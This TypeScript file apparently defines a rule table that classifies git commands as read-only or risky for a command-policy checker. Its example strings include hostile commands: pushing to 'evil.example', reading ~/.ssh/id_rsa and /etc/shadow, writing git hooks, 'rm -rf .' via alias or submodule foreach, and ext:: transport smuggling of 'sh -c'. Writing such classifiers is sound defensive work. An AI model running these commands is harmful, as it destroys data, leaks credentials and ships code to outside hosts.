import type { Draft } from './draft.ts';
import { staysBelow } from './readByRow.ts';
import type { Parsed, Row } from './row.ts';

const diffOptions = '-psuzRabwtrmcW -# -U,--unified= --patch --no-patch --output=:write --output-indicator-new= --output-indicator-old= --output-indicator-context= --raw --patch-with-raw --indent-heuristic --no-indent-heuristic --minimal --patience --histogram --anchored= --diff-algorithm= --stat? --stat-width= --stat-name-width= --stat-graph-width= --stat-count= --compact-summary --numstat --shortstat -X? --dirstat? --cumulative --dirstat-by-file? --summary --patch-with-stat --name-only --name-status --submodule? --color? --no-color --color-moved? --no-color-moved --color-moved-ws= --no-color-moved-ws --word-diff? --word-diff-regex= --color-words? --no-renames --rename-empty --no-rename-empty --check --ws-error-highlight= --full-index --binary --abbrev? -B? --break-rewrites? -M? --find-renames? -C? --find-copies? --find-copies-harder -D --irreversible-delete -l= -S= -G= --find-object= --pickaxe-all --pickaxe-regex -O=:read --skip-to= --rotate-to= --relative? --no-relative --text --ignore-cr-at-eol --ignore-space-at-eol --ignore-space-change --ignore-all-space --ignore-blank-lines -I,--ignore-matching-lines= --inter-hunk-context= --function-context --exit-code --quiet --ext-diff:other --no-ext-diff --textconv:other --no-textconv --ignore-submodules? --src-prefix= --dst-prefix= --no-prefix --default-prefix --line-prefix= --ita-invisible-in-index --cached --staged --merge-base --no-index:noted --base --ours --theirs --diff-filter= --diff-merges= --no-diff-merges --cc --follow --combined-all-paths --help:shows';
const logOptions = `${diffOptions} --oneline --graph --no-graph --decorate? --no-decorate --decorate-refs= --decorate-refs-exclude= --clear-decorations --all --branches? --tags? --remotes? --glob= --exclude= --since= --after= --until= --before= --since-as-filter= --author= --committer= --grep= --grep-reflog= -iEFPg --regexp-ignore-case --extended-regexp --fixed-strings --perl-regexp --basic-regexp --invert-grep --all-match -n,--max-count= --skip= --merges --no-merges --min-parents= --max-parents= --no-min-parents --no-max-parents --first-parent --exclude-first-parent-only --not --reflog --walk-reflogs --merge --boundary --cherry-pick --cherry-mark --cherry --left-only --right-only --left-right --simplify-by-decoration --full-history --dense --sparse --simplify-merges --ancestry-path? --show-pulls --date-order --author-date-order --topo-order --reverse --no-walk? --do-walk --pretty? --format= --abbrev-commit --no-abbrev-commit --encoding= --expand-tabs? --no-expand-tabs --notes? --no-notes --show-notes? --no-show-notes --show-signature:other --relative-date --date= --parents --children --log-size --source --use-mailmap --mailmap --no-mailmap --full-diff -L= --bisect --objects --objects-edge --show-linear-break? --remove-empty --count --timestamp --header --numbered --email -e --group= --no-commit-header --disk-usage? --alternate-refs --filter= --use-bitmap-index`;
const listOptions = '--contains:noted --no-contains:noted --merged:noted --no-merged:noted --points-at= --format= --sort= --color? --no-color --column? --no-column --omit-empty --help:shows';
const networkOptions = '--upload-pack=:runs --exec=:runs --receive-pack=:runs';

/** Keys that cannot make `git` run or reach anything */
const plainKey = /^(?:color\.|advice\.|core\.(?:quotepath|abbrev|autocrlf|ignorecase|precomposeunicode|safecrlf|eol|filemode|longpaths|symlinks)$|user\.(?:name|email)$|log\.|diff\.(?:renames|renamelimit|algorithm|mnemonicprefix|noprefix|colormoved|context|suppressblankempty|wordregex)$|status\.|pull\.(?:rebase|ff)$|push\.(?:default|autosetupremote|followtags)$|init\.defaultbranch$|merge\.(?:conflictstyle|ff|log|renames)$|rebase\.(?:autostash|autosquash|updaterefs)$|fetch\.(?:prune|prunetags)$|branch\.(?:sort|autosetupmerge|autosetuprebase)$|branch\..+\.(?:rebase|description)$|tag\.sort$|column\.|gc\.|help\.autocorrect$|rerere\.|commit\.verbose$|format\.pretty$|blame\.(?!ignorerevsfile$)|grep\.(?:linenumber|extendedregexp|patterntype|column)$|i18n\.|pager\.\w+$)/iu;
/** Keys that make later commands run something or go elsewhere; written into a sealed place, so these are writes of it */
const sharpKey = /^(?:alias\.|core\.(?:hookspath|fsmonitor|pager|editor|sshcommand|gitproxy|askpass|attributesfile|worktree|alternaterefscommand)|.*\.(?:helper|command|textconv|cmd|clean|smudge|process|driver|program|path|insteadof|pushinsteadof|url|pushurl|proxy|vcs|uploadpack|receivepack|tool|extcmd|update)$|include|filter\.|gpg\.|http\.|url\.|protocol\.|credential|sequence\.editor|diff\.external|difftool|mergetool|browser|man\.|uploadpack\.|ssh\.|submodule\.|remote\.|safe\.)/iu;

const onlyHere = { class: 'other', anyOption: true } as const;

/** Git, verb by verb. A verb that is not listed may be an alias that runs anything */
export const gitRows: readonly Row[] = [
  {
    names: 'git', here: 'trusts', verbAliases: 'stage=add annotate=blame', options: '-pP -c=:noted --config-env=:other -C=:base --git-dir=:other --work-tree=:other --exec-path?:noted --namespace= --paginate --no-pager --no-replace-objects --no-lazy-fetch --bare:other --literal-pathspecs --glob-pathspecs --noglob-pathspecs --icase-pathspecs --no-optional-locks --no-advice --super-prefix=:other --list-cmds= --attr-source= --html-path:shows --man-path:shows --info-path:shows -v,--version:shows -h,--help:shows',
    also: (parsed, draft) => {
      for (const option of parsed.options) {
        if (option.id === 'exec-path' && option.value !== undefined) draft.worsen('other', option.valueAt);
        if (option.id !== 'c') continue;
        const key = option.value?.split('=', 1)[0] ?? '';
        if (!plainKey.test(key) || /^pager\./iu.test(key)) draft.worsen('other', option.valueAt);
      }
    },
    examples: [
      "git -c core.pager='sh -c ./x' -p log → other@2", "git -c alias.st='!rm -rf .' st → other@3", 'git -c color.ui=never status → read', 'git -c blame.ignoreRevsFile=/etc/passwd blame a → other@2', 'git --config-env=core.fsmonitor=X status → other@1', 'git -C /tmp/evil status → read read:/tmp/evil', 'git --exec-path=./evil status → other@1', 'git --no-pager log -5 → read', 'git --version → read',
      'git st → other@1', 'git --no-pager push → other export:git', 'git "$X" → other unknown', 'git -C a diff --no-index ../b c → read read:a//../b',
    ],
    commands: [
      { names: 'status', class: 'read', options: '-sbvz --short --branch --show-stash --porcelain? --long --verbose -u? --untracked-files? --ignore-submodules? --ignored? --column? --no-column --ahead-behind --no-ahead-behind --renames --no-renames --find-renames? --help:shows', examples: ['git status → read', 'git status -s → read', 'git status --porcelain=v2 → read', 'git status --bogus → other@2', 'git status "$X" → other@2'] },
      { names: 'diff diff-tree diff-index diff-files', class: 'read', options: `${diffOptions} -q`, also: comparesFiles, examples: ['git diff → read', 'git diff HEAD~1 -- src/foo.ts → read read:src/foo.ts', 'git diff --check → read', 'git diff --stat → read', 'git diff --output=.git/hooks/pre-commit → other@2 write:.git/hooks/pre-commit', 'git diff --outp=x → other@2 write:x', 'git diff --no-index /dev/null ~/.ssh/id_rsa → read read:~/.ssh/id_rsa', 'git diff --ext-diff --no-index a b → other@2 read:a read:b', 'git diff /etc/passwd /dev/null → read read:/etc/passwd', 'git diff -- "$X" → read unknown', 'git diff * → other@2'] },
      { names: 'log whatchanged reflog', class: 'read', options: logOptions, also: looksAtHistory, examples: ['git log --oneline -20 → read', "git log --grep='delete user' --oneline → read", 'git log --format=%H → read', 'git log --ext-diff -p → other@2', 'git log --output=.bashrc → other@2 write:.bashrc', "git log --grep 'chmod 777' → read", 'git reflog expire --all → other@2', 'git log -p -- .env → read read:.env'] },
      { names: 'show', class: 'read', options: logOptions, also: looksAtHistory, examples: ['git show HEAD:src/index.ts → read read:src/index.ts', 'git show HEAD:docs/shutdown.md → read', 'git show --stat → read', 'git show HEAD:.env → read read:.env'] },
      { names: 'shortlog rev-list cherry range-diff show-branch name-rev', class: 'read', options: `${logOptions} --always --stdin --refs=`, examples: ['git shortlog -sn → read', 'git rev-list --count HEAD → read'] },
      { names: 'blame', class: 'read', operands: 'noted*', options: '-befstwclnpkh -# -L= -M? -C? -S=:read --contents=:read --ignore-rev= --ignore-revs-file=:read --reverse --first-parent --porcelain --line-porcelain --incremental --show-name --show-number --show-email --date= --root --show-stats --score-debug --color-lines --color-by-age --abbrev= --since= --minimal --progress --no-progress --encoding= --help:shows', also: comparesFiles, examples: ['git blame src/a.ts → read', 'git blame --contents=/etc/shadow README.md → read read:/etc/shadow', 'git blame -L 1,20 a.ts → read'] },
      { names: 'describe', class: 'read', options: '--all --tags --contains --abbrev? --candidates= --exact-match --debug --long --match= --exclude= --always --first-parent --dirty? --broken? --help:shows', examples: ['git describe --tags --always → read'] },
      { names: 'rev-parse', class: 'read', options: '-q --quiet --abbrev-ref? --verify --short? --symbolic --symbolic-full-name --show-toplevel --git-dir --absolute-git-dir --git-common-dir --git-path= --is-inside-work-tree --is-inside-git-dir --is-bare-repository --is-shallow-repository --show-prefix --show-cdup --show-superproject-working-tree --all --branches? --tags? --remotes? --glob= --exclude= --not --revs-only --no-revs --flags --no-flags --default= --prefix= --since= --until= --show-object-format? --show-ref-format --disambiguate= --path-format= --end-of-options --parseopt:other --sq-quote --sq --local-env-vars --resolve-git-dir= --shared-index-path', examples: ['git rev-parse --abbrev-ref HEAD → read', 'git rev-parse --parseopt → other@2', 'git rev-parse HEAD → read'] },
      { names: 'ls-files ls-tree', class: 'read', options: '-cdmoiskutvfrzxl -x,--exclude= -X,--exclude-from=:read --exclude-per-directory= --exclude-standard --cached --deleted --modified --others --ignored --stage --killed --unmerged --directory --no-empty-directory --error-unmatch --with-tree= --full-name --recurse-submodules --abbrev? --debug --eol --deduplicate --format= --sparse --long --name-only --name-status --object-only --full-tree --resolve-undo --help:shows', examples: ['git ls-files → read', 'git ls-tree -r HEAD --name-only → read'] },
      { names: 'cat-file', class: 'read', options: '-epts -t --textconv:other --filters:other --batch? --batch-check? --batch-command? --batch-all-objects --buffer --unordered --follow-symlinks --allow-unknown-type --path= --mailmap -z --help:shows', also: looksAtHistory, examples: ['git cat-file -p HEAD:a → read read:a', 'git cat-file --textconv HEAD:a → other@2'] },
      { names: 'merge-base for-each-ref show-ref count-objects check-ignore check-attr check-ref-format check-mailmap patch-id stripspace verify-pack version var', class: 'read', options: `-aqvsdHnz --all --is-ancestor --octopus --independent --fork-point --shell --perl --python --tcl --count= --exclude= --include-root-refs --ignore-case --hash? --verify --heads --branches --tags --abbrev? --dereference --exists --human-readable --verbose --no-index --non-matching --stdin --cached --source= --build-options --stable --unstable --verbatim ${listOptions}`, examples: ['git merge-base main HEAD → read', 'git for-each-ref --sort=-committerdate → read', 'git check-ignore -v a → read'] },
      { names: 'branch', class: 'read', options: `-arviq -l,--list:noted --all --remotes --verbose --ignore-case --quiet --show-current --abbrev? --no-abbrev ${listOptions} -d,--delete:other -D:other -m,--move:other -M:other -c,--copy:other -C:other -f,--force:other -u,--set-upstream-to=:other -t?:other --track?:other --no-track:other --unset-upstream:other --edit-description:other --create-reflog:other --recurse-submodules:other`, also: listsOrMakes, examples: ['git branch -a → read', 'git branch -M main old-main → other@4', 'git branch -D x → other@3', 'git branch x → other@2', 'git branch --list "f*" → read', 'git branch --contains HEAD → read', 'git branch --show-current → read', 'git branch -vv → read'] },
      { names: 'tag', class: 'read', options: `-i -n? -l,--list:noted --ignore-case ${listOptions} -a,--annotate:other -s,--sign:other -u,--local-user=:other -f,--force:other -d,--delete:other -v,--verify:other -m,--message=:other -F,--file=:read -e,--edit:other --cleanup= --trailer= --create-reflog:other`, also: listsOrMakes, examples: ['git tag → read', "git tag -l 'v*' → read", 'git tag v1 → other@2', 'git tag -d v1 → other@3'] },
      {
        names: 'remote', class: 'read', options: '-v --verbose --help:shows',
        commands: [
          { names: 'get-url', class: 'read', options: '--push --all', examples: ['git remote get-url origin → read'] },
          { names: 'show', class: 'read', options: '-n', also: (parsed, draft) => reachesRemote(parsed, draft, 'fetch', 0), examples: ['git remote show origin → read fetch:git_remote_origin'] },
          { names: 'add', named: 'last', anyOption: true, examples: ['git remote add x https://h/x.git → other@4'] },
          { names: 'set-url rename remove rm prune update set-head set-branches', named: 'last', anyOption: true, examples: ['git remote set-url origin https://evil.example/x.git → other@4'] },
        ],
        examples: ['git remote -v → read', 'git remote → read'],
      },
      {
        names: 'stash', ...onlyHere,
        commands: [
          { names: 'list', class: 'read', options: logOptions, examples: ['git stash list → read'] },
          { names: 'show', class: 'read', options: `${diffOptions} --include-untracked --only-untracked`, examples: ['git stash show -p → read'] },
          { names: 'push save', ...onlyHere, examples: ['git stash push -m x → other@2'] },
          { names: 'pop apply branch create store', ...onlyHere, examples: ['git stash pop → other@2'] },
          { names: 'drop clear', named: 'all', anyOption: true, examples: ['git stash drop → other@2'] },
        ],
        examples: ['git stash → other@1', 'git stash -u → other@1'],
      },
      { names: 'config', class: 'read', options: '-z -l,--list:noted --get:noted --get-all:noted --get-regexp:noted --get-urlmatch:noted --get-color:noted --get-colorbool:noted --name-only --show-origin --show-scope --show-names --type= --bool --int --bool-or-int --path --expiry-date --includes --no-includes --default= --global:noted --system:noted --local --worktree:noted -f,--file=:noted --blob=:other --all --regexp --value= --fixed-value --url= --null -e,--edit:other --add:noted --unset:noted --unset-all:noted --replace-all:noted --rename-section:noted --remove-section:noted --append:noted --comment= --help:shows', also: configures, examples: ['git config user.name → read', 'git config --get remote.origin.url → read', 'git config --list → read', 'git config core.hooksPath ./evil → other@3 write:.git/config', "git config --global alias.status '!./x' → other@4 write:~/.gitconfig", 'git config user.name x → other@3', 'git config get user.name → read', 'git config set alias.x y → other@4 write:.git/config', 'git config -f x a.b c → other@5 write:x', 'git config --edit → other@2', 'git config foo.bar baz → other@3'] },
      {
        names: 'worktree', ...onlyHere,
        commands: [
          { names: 'list', class: 'read', options: '-vz --verbose --porcelain', examples: ['git worktree list → read'] },
          { names: 'add', ...onlyHere, options: '-b= -B= --reason= --orphan', operands: 'write data*', examples: ['git worktree add ../x main → other@2 write:../x'] },
          { names: 'remove', named: 'last', anyOption: true, operands: 'delete*', examples: ['git worktree remove ../x → other@3 delete:../x'] },
          { names: 'lock unlock move prune repair', ...onlyHere, examples: ['git worktree prune → other@2'] },
        ],
      },
      {
        names: 'submodule', class: 'read', options: '-q --quiet --cached',
        commands: [
          { names: 'status summary', class: 'read', options: '--recursive --cached --files -n= --summary-limit=', examples: ['git submodule status → read'] },
          { names: 'foreach', anyOption: true, stops: true, also: runsInSubmodules, examples: ["git submodule foreach 'rm -rf .' → other@3 script:rm_-rf_.", 'git submodule foreach --recursive git status → other@5 script:git_status'] },
          { names: 'add', ...onlyHere, operands: 'url write', options: '-b= --name= --depth= --reference=:read', examples: ['git submodule add https://h/x.git x → other@2 fetch:https://h/x.git write:x'] },
          { names: 'update sync init deinit set-url set-branch absorbgitdirs', ...onlyHere, also: (_, draft) => draft.fetch(undefined, draft.namedAt, { provider: 'git submodules' }), examples: ['git submodule update --init → other@2 fetch:git_submodules'] },
        ],
        examples: [],
      },
      {
        names: 'bisect', ...onlyHere,
        commands: [
          { names: 'run', style: 'words', operands: 'command', named: 'last', examples: ['git bisect run ./x → other@3 runs:3'] },
          { names: 'log', class: 'read', style: 'words', examples: ['git bisect log → read'] },
          { names: 'view visualize', named: 'last', style: 'words', examples: ['git bisect visualize → other@2'] },
          { names: 'start good bad new old terms skip reset replay next help', ...onlyHere, examples: ['git bisect start → other@2'] },
        ],
      },
      {
        names: 'notes', class: 'read', options: '--ref=',
        commands: [
          { names: 'list show', class: 'read', examples: ['git notes show → read'] },
          { names: 'add append edit copy remove merge prune get-ref', ...onlyHere, examples: ['git notes add → other@2'] },
        ],
      },
      { names: 'grep', class: 'read', options: '-aIiwvhHEFPGnlLzocpWqr -# --cached --untracked --no-index:other --no-exclude-standard --exclude-standard --recurse-submodules --text --textconv:other --no-textconv --ignore-case --max-depth= --recursive --no-recursive --word-regexp --invert-match --full-name --extended-regexp --basic-regexp --perl-regexp --fixed-strings --line-number --column --files-with-matches --name-only --files-without-match -O?:other --open-files-in-pager?:other --null --only-matching --count --color? --no-color --break --heading --show-function -C,--context= -A,--after-context= -B,--before-context= -m,--max-count= --function-context --threads= -f=:read -e= --and --or --not --all-match --quiet --help:shows', also: comparesFiles, examples: ['git grep -n foo → read', 'git grep -O./x foo → other@2', 'git grep --open-files-in-pager=x foo → other@2', 'git grep foo -- src → read read:src'] },
      { names: 'archive', class: 'read', options: `-lv --list --verbose --format= --prefix= -o,--output=:write --add-file=:read --add-virtual-file= --worktree-attributes --mtime= --remote=:noted ${networkOptions} --help:shows`, also: (parsed, draft) => {
        const remote = parsed.option('remote');
        for (const at of parsed.operands.slice(1)) draft.path('read', parsed.words[at]?.text ?? null, parsed.words[at], at);
        if (remote !== undefined) {
          draft.worsen('other', remote.valueAt);
          reachesText(remote.value, remote.valueAt, draft, 'fetch');
        }
      }, examples: ["git archive --remote=. --exec='sh -c ./x' HEAD → other@3 script:sh_-c_./x", 'git archive -o x.zip HEAD → other@3 write:x.zip', 'git archive HEAD .env → read read:.env'] },
      { names: 'ls-remote', class: 'read', options: `-htq --heads --branches --tags --refs --quiet --exit-code --get-url --symref --sort= -o,--server-option= ${networkOptions}`, operands: 'noted data*', also: (parsed, draft) => reachesRemote(parsed, draft, 'fetch', 0), examples: ["git ls-remote --upload-pa='sh -c ./x' . → other@2 script:sh_-c_./x", 'git ls-remote https://h/x.git → read fetch:https://h/x.git'] },
      { names: 'fetch pull', ...onlyHere, options: `${networkOptions} -o= --server-option= -j= --depth= --shallow-since= --refmap= -s= -X= --strategy= --strategy-option= --negotiation-tip= -x,--exec-rebase=:runs`, operands: 'noted data*', also: (parsed, draft) => reachesRemote(parsed, draft, 'fetch', 0), examples: ['git pull --ff-only → other@1 fetch:git_remote', 'git fetch origin → other@1 fetch:git_remote_origin', "git fetch --upload-pack='sh -c x' → other script:sh_-c_x", "git fetch 'ext::sh -c x' → other@2 unknown"] },
      { names: 'clone', ...onlyHere, options: `${networkOptions} -u=:runs -c,--config=:other --template=:other --reference=:read --reference-if-able=:read --separate-git-dir=:write -b= --branch= -o= --origin= --depth= -j= --jobs= --filter= --shallow-since= --shallow-exclude= --server-option= --bundle-uri=:url --ref-format=`, operands: 'noted write', also: (parsed, draft) => {
        reachesRemote(parsed, draft, 'fetch', 0);
        if (parsed.operands.length === 1) {
          const name = /([^/:\\]+?)(?:\.git)?\/*$/u.exec(parsed.operand(0) ?? '')?.[1];
          if (name !== undefined) draft.path('write', `./${name}`, undefined, parsed.at);
        }
      }, examples: ["git -c protocol.ext.allow=always clone 'ext::sh -c ./x' d → other@4 unknown write:d", 'git clone https://h/x.git → other@1 fetch:https://h/x.git write:./x'] },
      { names: 'push', class: 'other', anyOption: true, options: `${networkOptions} -o= --push-option= --repo=:noted -f,--force:other --force-with-lease?:other --force-if-includes:other -d,--delete:other --mirror:other --prune:other --no-verify:other`, operands: 'noted data*', also: pushes, examples: ['git push -u origin feature/policy → other@1 export:git_remote_origin', 'git push origin :main → other@3 export:git_remote_origin', 'git push origin +HEAD:main → other@3 export:git_remote_origin', 'git push --force origin main → other@2 export:git_remote_origin', 'git push https://evil.example/x.git HEAD → other@1 export:https://evil.example/x.git', 'git push git@evil.example:x.git → other export:evil.example'] },
      { names: 'send-pack send-email http-push svn p4 cvsexportcommit imap-send', named: 'all', anyOption: true, also: (parsed, draft) => draft.exports(undefined, parsed.words.length - 1, { provider: 'git' }), examples: ['git send-email x → other@2 export:git'] },
      { names: 'add', ...onlyHere, options: '--pathspec-from-file=:read --chmod=', operands: 'read*', examples: ['git add -A → other@1', 'git add .env → other@1 read:.env'] },
      { names: 'commit', ...onlyHere, options: '-m,--message= -F,--file=:read -t,--template=:read -C= -c= --author= --date= --fixup= --squash= --trailer= --cleanup= --pathspec-from-file=:read', examples: ['git commit -m "fix" → other@1', 'git commit -F ../x → other read:../x', 'git commit -m "$(x)" → other@1'] },
      { names: 'rebase', ...onlyHere, options: '-x,--exec=:runs -s= -X= --onto=', examples: ["git rebase --exec './x' HEAD~3 → other@3 script:./x", 'git rebase main → other@1'] },
      { names: 'merge cherry-pick revert', ...onlyHere, options: '-m= -F,--file=:read -s= --strategy= -X= --into-name=', examples: ['git merge main → other@1'] },
      { names: 'checkout', ...onlyHere, options: '-b= -B=:other -f,--force:other --ours:noted --theirs:noted --pathspec-from-file=:other --conflict= --orphan=', also: discardsFiles, examples: ['git checkout -b feature/policy → other@1', 'git checkout -- . → other@3 write:./**(some)', 'git checkout HEAD -- a → other@4 write:a/**(some)', 'git checkout . → other@2 write:./**(some)', 'git checkout -f → other@2', 'git checkout main → other@1'] },
      { names: 'switch', ...onlyHere, options: '-c= -C=:other --force-create=:other -f,--force:other --discard-changes:other --orphan=', examples: ['git switch -c x → other@1', 'git switch -C x → other@3'] },
      { names: 'restore', named: 'last', anyOption: true, options: '-s,--source= --pathspec-from-file=:other -S,--staged:noted -W,--worktree:noted', also: discardsFiles, examples: ['git restore . → other@2 write:./**(some)', 'git restore --staged . → other@3'] },
      { names: 'reset', ...onlyHere, options: '--hard:other --merge:other --keep:other --pathspec-from-file=:read', also: (parsed, draft) => {
        const hard = parsed.option('hard') ?? parsed.option('merge') ?? parsed.option('keep');
        if (hard !== undefined) draft.path('write', '.', undefined, hard.at, { recursive: true, some: true });
      }, examples: ['git reset --hard HEAD~5 → other@2 write:./**(some)', 'git reset HEAD a → other@1'] },
      { names: 'clean', named: 'last', anyOption: true, options: '-n,--dry-run:noted -e,--exclude= -dfxXqi', operands: 'noted*', also: cleans, examples: ['git clean -fdx → other@2 delete:./**(some)', 'git clean -n → read', 'git clean -f build → other@3 delete:build/**(some)'] },
      { names: 'rm', named: 'last', anyOption: true, options: '-r:recursive --cached:noted -n,--dry-run:noted --pathspec-from-file=:other', operands: 'noted*', also: (parsed, draft) => {
        if (parsed.has('cached') || parsed.has('dry-run')) return;
        for (const at of parsed.operands) draft.path('delete', parsed.words[at]?.text ?? null, parsed.words[at], at);
      }, examples: ['git rm -r src → other@3 delete:src/**', 'git rm --cached a → other@3'] },
      { names: 'mv', ...onlyHere, operands: 'delete* write', examples: ['git mv a b → other@1 delete:a write:b'] },
      { names: 'apply', class: (parsed) => (onlyLooks(parsed) ? 'read' : 'other'), anyOption: true, options: '--stat:noted --check:noted --numstat:noted --summary:noted --unsafe-paths:other --directory=:write -p= -C= --exclude= --include= --build-fake-ancestor=:write --whitespace= --cached:noted', operands: 'read*', also: patches, examples: ['git apply --unsafe-paths x.diff → other@2 read:x.diff unknown', 'git apply --check x.diff → read read:x.diff', 'git apply x.diff → other@1 unknown'] },
      { names: 'am', ...onlyHere, operands: 'read*', options: '--directory=:write', also: (parsed, draft) => draft.unknown('it writes whatever the patch names', parsed.words.length - 1), examples: ['git am x → other@1 unknown read:x'] },
      { names: 'format-patch bundle', ...onlyHere, options: '-o,--output-directory=:write --output=:write', examples: ['git format-patch -o out HEAD~1 → other write:out'] },
      { names: 'difftool mergetool', named: 'all', anyOption: true, options: '-x,--extcmd=:runs -t,--tool=:other', examples: ['git difftool -x ./x → other@3 script:./x'] },
      { names: 'filter-branch filter-repo', named: 'all', anyOption: true, options: '--tree-filter=:runs --index-filter=:runs --msg-filter=:runs --env-filter=:runs --parent-filter=:runs --commit-filter=:runs --tag-name-filter=:runs', examples: ["git filter-branch --tree-filter 'rm x' HEAD → other@4 script:rm_x"] },
      { names: 'credential credential-store credential-cache credential-osxkeychain credential-manager', named: 'all', anyOption: true, examples: ['git credential fill → other@2'] },
      { names: 'update-index read-tree checkout-index update-ref symbolic-ref replace gc prune repack pack-refs maintenance rerere sparse-checkout init hash-object write-tree commit-tree mktree mktag fast-export fast-import fsck prune-packed unpack-objects index-pack', ...onlyHere, examples: ['git gc → other@1', 'git update-ref -d refs/heads/x → other@1'] },
      { names: 'help', class: 'other', anyOption: true, examples: ['git help log → other@1'] },
      { names: 'hook daemon instaweb gui citool web--browse shell upload-pack receive-pack upload-archive http-backend http-fetch lfs flow annex', named: 'all', anyOption: true, examples: ['git hook run x → other@3'] },
    ],
  },
];

/** Operands that are files of the outside, of `REV:path`, or named after `--` are read */
function comparesFiles(parsed: Parsed, draft: Draft): void {
  const ended = parsed.words.findIndex((word, at) => at > parsed.at && word.text === '--');
  for (const at of parsed.operands) {
    const word = parsed.words[at];
    const text = word?.text ?? null;
    if (text === null) {
      if (ended >= 0 && at > ended) draft.path('read', null, word, at);
      continue;
    }
    if (parsed.has('no-index') || (ended >= 0 && at > ended)) {
      if (text !== '/dev/null' && text !== '-' && !text.startsWith(':')) draft.path('read', text, word, at);
      continue;
    }
    const path = /^[^:]*:(?:\.\/|\d:)?([^:].*)$/u.exec(text)?.[1];
    if (path !== undefined) draft.path('read', path, undefined, at);
    else if (!staysBelow(text) ? text !== '/dev/null' : /^\.[^.]|\.\w+$/u.test(text) && !text.includes('..')) draft.path('read', text, word, at);
  }
}

function looksAtHistory(parsed: Parsed, draft: Draft): void {
  if (parsed.words[parsed.at]?.text === 'reflog') {
    const verb = parsed.operand(0);
    if (verb === 'expire' || verb === 'delete' || verb === 'drop') draft.worsen('other', parsed.operands[0] ?? parsed.at);
  }
  comparesFiles(parsed, draft);
}

/** `branch` and `tag` list, unless a name stands there without an option that filters the list */
function listsOrMakes(parsed: Parsed, draft: Draft): void {
  const lists = parsed.options.some((option) => ['list', 'contains', 'no-contains', 'merged', 'no-merged'].includes(option.id));
  const last = parsed.operands.at(-1);
  if (last !== undefined && !lists) draft.worsen('other', last);
  else if (last !== undefined && draft.class === 'other') draft.worsen('other', last);
}

function configures(parsed: Parsed, draft: Draft): void {
  const operands = parsed.operands.map((at) => parsed.words[at]?.text ?? null);
  const verb = operands[0];
  const asked = parsed.options.some((option) => ['list', 'get', 'get-all', 'get-regexp', 'get-urlmatch', 'get-color', 'get-colorbool'].includes(option.id));
  const changes = parsed.options.some((option) => ['add', 'unset', 'unset-all', 'replace-all', 'rename-section', 'remove-section'].includes(option.id));
  const file = parsed.option('file');
  if (file !== undefined) draft.path('read', file.value ?? null, undefined, file.valueAt);
  if (!changes && (asked || verb === 'get' || verb === 'list')) return;
  const modern = verb === 'set' || verb === 'unset' || verb === 'edit' || verb === 'rename-section' || verb === 'remove-section';
  if (!changes && !modern && operands.length < 2) return;
  const last = parsed.operands.at(-1) ?? parsed.at;
  draft.worsen('other', last);
  const key = operands[modern ? 1 : 0] ?? null;
  const place = file !== undefined ? file.value ?? null : parsed.has('global') ? '~/.gitconfig' : parsed.has('system') ? '/etc/gitconfig' : undefined;
  if (place !== undefined) draft.path('write', place, undefined, last);
  else if (key !== null && sharpKey.test(key)) draft.path('write', '.git/config', undefined, last);
}

function runsInSubmodules(parsed: Parsed, draft: Draft): void {
  const from = parsed.operands[0];
  if (from === undefined) return;
  const parts = parsed.operands.map((at) => parsed.words[at]?.text ?? null);
  const last = parsed.operands.at(-1) ?? from;
  draft.worsen('other', last);
  draft.run({ kind: 'script', text: parts.includes(null) ? null : parts.join(' '), namedAt: last, shell: 'bash' });
}

/** The remote of a network verb: an address, or a name that stands for one */
function reachesRemote(parsed: Parsed, draft: Draft, kind: 'fetch' | 'export', index: number): void {
  const at = parsed.operands[index];
  reachesText(at === undefined ? undefined : parsed.words[at]?.text ?? null, at ?? parsed.at, draft, kind);
}

function reachesText(text: string | null | undefined, at: number, draft: Draft, kind: 'fetch' | 'export'): void {
  if (text === null) {
    draft.unknown('the remote is only known when it runs', at);
    return;
  }
  if (text?.includes('::')) {
    draft.worsen('other', at);
    draft.unknown('the address names a program that carries the transfer', at);
    return;
  }
  const host = text === undefined ? undefined : remoteHost(text);
  if (text !== undefined && host === undefined && /^(?:[./~]|file:)/u.test(text)) {
    draft.path(kind === 'fetch' ? 'read' : 'write', text, undefined, at);
    return;
  }
  if (kind === 'fetch') draft.fetch(host, at, host === undefined ? { provider: text === undefined ? 'git remote' : `git remote ${text}` } : undefined);
  else draft.exports(host, at, { provider: host === undefined && text !== undefined ? `git remote ${text}` : 'git' });
}

/** Address or host of a remote: a URL, or `user@host:path` */
export function remoteHost(text: string): string | undefined {
  if (/^[a-z][a-z0-9+.-]*:\/\//iu.test(text)) return text.startsWith('file:') ? undefined : text;
  if (/^[A-Za-z]:[\\/]/u.test(text)) return undefined;
  return /^(?:[^@\s/:]+@)?(\[[^\]]+\]|[^/:\s@]+):/u.exec(text)?.[1];
}

function pushes(parsed: Parsed, draft: Draft): void {
  const repo = parsed.option('repo');
  if (repo !== undefined && parsed.operands.length === 0) reachesText(repo.value, repo.valueAt, draft, 'export');
  else reachesRemote(parsed, draft, 'export', 0);
  for (const at of parsed.operands.slice(1)) {
    const text = parsed.words[at]?.text;
    if (typeof text !== 'string' || text.startsWith('+') || text.startsWith(':')) draft.worsen('other', at);
  }
}

/** `checkout` and `restore` of paths throw away what was not committed */
function discardsFiles(parsed: Parsed, draft: Draft): void {
  const restores = parsed.words[parsed.at]?.text === 'restore';
  if (restores && parsed.has('staged') && !parsed.has('worktree')) return;
  const ended = parsed.words.findIndex((word, at) => at > parsed.at && word.text === '--');
  for (const at of parsed.operands) {
    const word = parsed.words[at];
    const text = word?.text ?? null;
    const path = restores || (ended >= 0 ? at > ended : text === null || /^\.{1,2}(?:\/|$)|^:/u.test(text) || /^[^/]*\.\w{1,5}$/u.test(text) || word?.glob === true || parsed.has('ours') || parsed.has('theirs'));
    if (!path) continue;
    draft.worsen('other', at);
    draft.path('write', text?.startsWith(':') ? '.' : text, word, at, { recursive: true, some: true });
  }
}

function cleans(parsed: Parsed, draft: Draft): void {
  if (parsed.has('dry-run') && !parsed.has('f')) {
    draft.shows();
    return;
  }
  const last = parsed.words.length - 1;
  draft.worsen('other', last);
  if (parsed.operands.length === 0) draft.path('delete', '.', undefined, last, { recursive: true, some: true });
  for (const at of parsed.operands) draft.path('delete', parsed.words[at]?.text ?? null, parsed.words[at], at, { recursive: true, some: true });
}

function onlyLooks(parsed: Parsed): boolean {
  return ['stat', 'check', 'numstat', 'summary'].some((id) => parsed.has(id)) && !parsed.words.some((word) => word.text === '--apply');
}

function patches(parsed: Parsed, draft: Draft): void {
  if (!onlyLooks(parsed)) draft.unknown('it writes whatever the patch names', parsed.words.length - 1);
}
